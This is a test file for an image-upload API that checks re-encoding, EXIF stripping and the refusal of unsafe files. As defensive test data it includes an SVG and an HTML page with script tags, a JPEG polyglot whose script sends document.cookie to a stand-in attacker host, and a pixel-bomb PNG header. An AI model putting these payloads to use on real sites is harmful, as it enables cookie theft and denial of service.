import { mkdtemp, readFile, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { imageMaxBytes, imageSchema } from '@portal/contracts/image';
import { systemRoleCodes } from '@portal/contracts/permissions';
import { eq } from 'drizzle-orm';
import type { FastifyInstance } from 'fastify';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createUserWithRole, entriesAbout } from '../../../test/access-fixtures';
import { signInCatalogueCallers } from '../../../test/catalogue-fixtures';
import { bearer, signIn, someAddress } from '../../../test/identity-fixtures';
import { startOfUnbrokenWindow } from '../../../test/rate-window';
import { buildTestApp } from '../../../test/test-app';
import { createTestDatabase, type TestDatabase } from '../../../test/test-database';
import { images, imageVariants } from '../../db/image-schema';
import { multipartBody } from '../files/documents.fixtures';
import {
  countImages,
  filesUnder,
  jpegOf,
  jpegWithComment,
  pngClaiming,
  testPicture,
  uploadImage,
} from './images.fixtures';

let database: TestDatabase;
let app: FastifyInstance;
let storageDir: string;
let token: string;
let userId: string;

beforeAll(async () => {
  storageDir = await mkdtemp(path.join(os.tmpdir(), 'portal-images-'));
  database = await createTestDatabase();
  app = await buildTestApp(database, { env: { CAPTCHA_ENABLED: 'false', FILE_STORAGE_DIR: storageDir } });
  const user = await createUserWithRole(database.db, systemRoleCodes.member);
  userId = user.id;
  token = await signIn(app, user.account);
});
afterAll(async () => {
  await app.close();
  await database.drop();
  await rm(storageDir, { recursive: true, force: true });
});

/** Runs a refused upload and checks it left neither a row nor a file behind. */
async function expectNothingStored(upload: () => ReturnType<typeof uploadImage>) {
  const rowsBefore = await countImages(database.db);
  const filesBefore = await filesUnder(storageDir);
  const response = await upload();
  expect(await countImages(database.db)).toBe(rowsBefore);
  expect(await filesUnder(storageDir)).toEqual(filesBefore);
  return response;
}

async function expectRefused(bytes: Buffer, status: number, code: string, fileName = 'photo.jpg') {
  const response = await expectNothingStored(() => uploadImage(app, token, { bytes, fileName }));
  expect(response.statusCode, response.body).toBe(status);
  expect(response.json().errors[0].code).toBe(code);
  return response;
}

/** The stored WebP of an answered variant, read from disk through its row. */
async function storedFile(sha256: string): Promise<Buffer> {
  const [row] = await database.db.select().from(imageVariants).where(eq(imageVariants.sha256, sha256));
  return readFile(path.join(storageDir, row?.storageKey ?? 'missing'));
}
const shaOf = (url: string) => /([0-9a-f]{64})-/.exec(url)?.[1] ?? '';

describe('POST /Image', () => {
  it('re-encodes a JPEG to WebP in three sizes, never larger than the upload, with its row and log entry', async () => {
    const response = await uploadImage(app, token, { bytes: await jpegOf(3000, 1000) });
    expect(response.statusCode, response.body).toBe(201);
    const image = imageSchema.parse(response.json());
    expect(image).toMatchObject({ width: 3000, height: 1000 });
    expect(image.variants.large).toMatchObject({ width: 2048, height: 683 });
    expect(image.variants.medium).toMatchObject({ width: 960, height: 320 });
    expect(image.variants.small).toMatchObject({ width: 320, height: 107 });
    for (const variant of Object.values(image.variants)) {
      expect(variant.url).toMatch(/^\/api\/v1\/Image\/[0-9a-f]{64}-(large|medium|small)\.webp$/);
      const bytes = await storedFile(shaOf(variant.url));
      expect(bytes.length).toBe(variant.size);
      const metadata = await sharp(bytes).metadata();
      expect(metadata).toMatchObject({ format: 'webp', width: variant.width, height: variant.height });
    }
    const [row] = await database.db.select().from(images).where(eq(images.id, image.id));
    expect(row).toMatchObject({ uploaderId: userId, sourceType: 'image/jpeg', ownerId: null });
    expect(row?.unattachedSince).toBeInstanceOf(Date);
    const [entry] = await entriesAbout(database.db, 'image', image.id);
    expect(entry).toMatchObject({ action: 'create', actorId: userId });

    const small = await uploadImage(app, token, { bytes: await jpegOf(200, 100) });
    expect(small.json().variants).toMatchObject({
      large: { width: 200, height: 100 },
      medium: { width: 200, height: 100 },
      small: { width: 200, height: 100 },
    });
  });

  it('accepts PNG, WebP, AVIF and GIF by their content, whatever the name and type sent', async () => {
    const picture = () => testPicture(120, 80);
    const uploads = [
      { bytes: await picture().png().toBuffer(), fileName: 'a.jpg', contentType: 'image/jpeg' },
      { bytes: await picture().webp().toBuffer(), fileName: 'b.png', contentType: 'image/png' },
      { bytes: await picture().avif().toBuffer(), fileName: 'c', contentType: 'application/octet-stream' },
      { bytes: await picture().gif().toBuffer(), fileName: 'd.gif', contentType: 'text/plain' },
    ];
    for (const upload of uploads) {
      const response = await uploadImage(app, token, upload);
      expect(response.statusCode, `${upload.fileName}: ${response.body}`).toBe(201);
      expect(response.json()).toMatchObject({ width: 120, height: 80 });
    }
    const types = await database.db.selectDistinct({ type: images.sourceType }).from(images);
    expect(types.map((row) => row.type)).toEqual(
      expect.arrayContaining(['image/png', 'image/webp', 'image/avif', 'image/gif']),
    );
  });

  it('keeps the colours of CMYK, 16-bit, grey and transparent pictures', async () => {
    const red = { r: 192, g: 48, b: 32 };
    const solid = () => sharp({ create: { width: 60, height: 40, channels: 3, background: red } });
    const cases = [
      { name: 'cmyk.jpg', bytes: await solid().toColourspace('cmyk').jpeg().toBuffer(), mean: [192, 48, 32] },
      { name: 'deep.png', bytes: await solid().toColourspace('rgb16').png().toBuffer(), mean: [192, 48, 32] },
      { name: 'grey.png', bytes: await solid().greyscale().png().toBuffer(), mean: [102, 102, 102] },
      {
        name: 'clear.png',
        bytes: await sharp({
          create: { width: 60, height: 40, channels: 4, background: { ...red, alpha: 0.5 } },
        })
          .png()
          .toBuffer(),
        mean: [192, 48, 32, 128],
      },
    ];
    for (const { name, bytes, mean } of cases) {
      const response = await uploadImage(app, token, { bytes, fileName: name });
      expect(response.statusCode, `${name}: ${response.body}`).toBe(201);
      const stored = await storedFile(shaOf(response.json().variants.large.url));
      const stats = await sharp(stored).stats();
      const channels = stats.channels.map((channel) => channel.mean);
      expect(channels.length, name).toBe(mean.length === 4 ? 4 : 3);
      // CMYK goes through a colour conversion: a few levels off, never another colour.
      channels.slice(0, mean.length).forEach((value, index) => {
        expect(Math.abs(value - (mean[index] ?? 0)), `${name} channel ${index}`).toBeLessThan(30);
      });
    }
  });

  it('keeps the first frame of an animated GIF as a still picture', async () => {
    const frames = Buffer.concat([
      await testPicture(40, 30).raw().toBuffer(),
      Buffer.alloc(40 * 30 * 3, 255),
      Buffer.alloc(40 * 30 * 3, 0),
    ]);
    const gif = await sharp(frames, { raw: { width: 40, height: 90, channels: 3, pageHeight: 30 } })
      .gif({ loop: 0, delay: [100, 100, 100] })
      .toBuffer();
    expect((await sharp(gif).metadata()).pages).toBe(3);
    const response = await uploadImage(app, token, { bytes: gif, fileName: 'moving.gif' });
    expect(response.statusCode, response.body).toBe(201);
    const { large } = response.json().variants;
    expect(large).toMatchObject({ width: 40, height: 30 });
    const stored = await sharp(await storedFile(shaOf(large.url))).metadata();
    expect(stored.pages ?? 1).toBe(1);
  });

  it('strips EXIF with GPS and every other metadata block', async () => {
    const jpeg = await testPicture(64, 48)
      .jpeg()
      .withExif({
        IFD0: { Make: 'PhoneMaker', Copyright: 'Secret Owner' },
        IFD3: { GPSLatitudeRef: 'N', GPSMapDatum: 'WGS-84-HOME' },
      })
      .toBuffer();
    const before = await sharp(jpeg).metadata();
    expect(before.exif).toBeDefined();
    expect(jpeg.includes('WGS-84-HOME')).toBe(true);

    const response = await uploadImage(app, token, { bytes: jpeg });
    expect(response.statusCode, response.body).toBe(201);
    for (const variant of Object.values(response.json().variants) as { url: string }[]) {
      const stored = await storedFile(shaOf(variant.url));
      const metadata = await sharp(stored).metadata();
      expect(metadata.exif).toBeUndefined();
      expect(metadata.xmp).toBeUndefined();
      expect(metadata.icc).toBeUndefined();
      expect(metadata.iptc).toBeUndefined();
      for (const text of ['WGS-84-HOME', 'PhoneMaker', 'Secret Owner', 'EXIF', 'Exif']) {
        expect(stored.includes(text), text).toBe(false);
      }
    }
  });

  it('applies the EXIF orientation: a picture taken sideways comes out upright, sides swapped', async () => {
    const jpeg = await testPicture(64, 48).jpeg().withMetadata({ orientation: 6 }).toBuffer();
    expect(await sharp(jpeg).metadata()).toMatchObject({ width: 64, height: 48, orientation: 6 });
    const response = await uploadImage(app, token, { bytes: jpeg });
    expect(response.statusCode, response.body).toBe(201);
    const image = response.json();
    expect(image).toMatchObject({ width: 48, height: 64 });
    expect(image.variants.large).toMatchObject({ width: 48, height: 64 });
    const stored = await sharp(await storedFile(shaOf(image.variants.large.url))).metadata();
    expect(stored).toMatchObject({ width: 48, height: 64 });
    expect(stored.orientation).toBeUndefined();
  });

  it('answers the same image when its uploader sends the same file again; another uploader gets their own', async () => {
    const bytes = await jpegOf(90, 60);
    const first = await uploadImage(app, token, { bytes });
    const filesAfterFirst = await filesUnder(storageDir);
    const again = await uploadImage(app, token, { bytes, fileName: 'copy.jpg' });
    expect(again.statusCode).toBe(201);
    expect(again.json().id).toBe(first.json().id);
    expect(await filesUnder(storageDir)).toEqual(filesAfterFirst);

    const other = await createUserWithRole(database.db, systemRoleCodes.member);
    const theirs = await uploadImage(app, await signIn(app, other.account), { bytes });
    expect(theirs.statusCode).toBe(201);
    expect(theirs.json().id).not.toBe(first.json().id);
    // Same bytes in, same bytes out: both images serve the same names.
    expect(theirs.json().variants.small.url).toBe(first.json().variants.small.url);
  });

  it('refuses text named .jpg, SVG and HTML, whatever they claim to be', async () => {
    await expectRefused(
      Buffer.from('just some notes, not a picture\n'.repeat(20)),
      415,
      'IMAGE_TYPE_NOT_ALLOWED',
    );
    await expectRefused(
      Buffer.from(
        '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>',
      ),
      415,
      'IMAGE_TYPE_NOT_ALLOWED',
      'logo.svg',
    );
    await expectRefused(
      Buffer.from('<!doctype html><html><body><script>alert(1)</script></body></html>'),
      415,
      'IMAGE_TYPE_NOT_ALLOWED',
      'page.png',
    );
  });

  it('refuses an HTML polyglot: a valid JPEG with a page in its comment', async () => {
    const polyglot = jpegWithComment(
      await jpegOf(32, 32),
      '<html><body><script>document.location="https://evil.test/?c="+document.cookie</script></body></html>',
    );
    // It is a picture any decoder reads…
    expect(await sharp(polyglot).metadata()).toMatchObject({ format: 'jpeg', width: 32 });
    // …and a page a browser would run, so it is refused with its own code and message.
    const response = await expectRefused(polyglot, 415, 'IMAGE_CONTAINS_MARKUP');
    expect(response.json().errors[0].message).toContain('網頁或程式碼');
  });

  it('refuses a 50 000 × 50 000 PNG bomb from its header, before decoding', async () => {
    const bomb = pngClaiming(50_000, 50_000);
    expect(bomb.length).toBeLessThan(1024);
    const response = await expectRefused(bomb, 413, 'IMAGE_TOO_MANY_PIXELS', 'bomb.png');
    expect(response.json().errors[0].message).toContain('50000 × 50000');
    expect(response.json().errors[0].message).toContain('40');
  });

  it('refuses a picture whose header is fine but whose data is broken', async () => {
    const jpeg = await jpegOf(400, 300);
    await expectRefused(jpeg.subarray(0, Math.floor(jpeg.length / 3)), 422, 'IMAGE_UNREADABLE');
  });

  it('refuses a file over 10 MB with 413, storing nothing', async () => {
    const jpeg = await jpegOf(16, 16);
    const oversize = Buffer.concat([jpeg, Buffer.alloc(imageMaxBytes + 1 - jpeg.length)]);
    const response = await expectRefused(oversize, 413, 'IMAGE_TOO_LARGE');
    expect(response.json().errors[0].message).toContain('10 MB');
  });

  it('takes a picture from every signed-in caller: staff, a vendor’s owner, manager and member, a buyer', async () => {
    const callers = await signInCatalogueCallers(app, database.db);
    const bytes = await jpegOf(16, 16);
    for (const caller of [
      callers.staff,
      callers.staffWithout,
      callers.vendorOwner,
      callers.vendorManager,
      callers.vendorMember,
      callers.buyer,
    ]) {
      const response = await uploadImage(app, caller, { bytes });
      expect(response.statusCode, response.body).toBe(201);
      expect(imageSchema.parse(response.json()).id).toBeTruthy();
    }
  });

  it('answers 401 to a stranger and stores nothing', async () => {
    const bytes = await jpegOf(16, 16);
    const response = await expectNothingStored(() => uploadImage(app, undefined, { bytes }));
    expect(response.statusCode).toBe(401);
    expect(response.json().errors[0].code).toBe('UNAUTHENTICATED');
  });

  it('answers 400 without a file part and 415 to JSON', async () => {
    const body = multipartBody([{ name: 'note', value: 'hello' }]);
    const missing = await app.inject({
      method: 'POST',
      url: '/api/v1/Image',
      headers: { 'content-type': body.contentType, ...bearer(token) },
      payload: body.payload,
    });
    expect(missing.statusCode).toBe(400);
    expect(missing.json().errors[0]).toMatchObject({ code: 'FIELD_REQUIRED', field: 'file' });
    const json = await app.inject({
      method: 'POST',
      url: '/api/v1/Image',
      headers: bearer(token),
      payload: {},
    });
    expect(json.statusCode).toBe(415);
  });

  it('limits each account to 60 uploads in 10 minutes', async () => {
    const user = await createUserWithRole(database.db, systemRoleCodes.member);
    const userToken = await signIn(app, user.account);
    await startOfUnbrokenWindow(600);
    for (let call = 1; call <= 60; call += 1) {
      const response = await app.inject({
        method: 'POST',
        url: '/api/v1/Image',
        headers: bearer(userToken),
        payload: {},
        remoteAddress: someAddress(),
      });
      expect(response.statusCode).toBe(415);
    }
    const limited = await uploadImage(app, userToken, { bytes: await jpegOf(16, 16) });
    expect(limited.statusCode).toBe(429);
    expect(limited.headers['retry-after']).toBeDefined();
    expect((await uploadImage(app, token, { bytes: await jpegOf(17, 16) })).statusCode).toBe(201);
  });
});
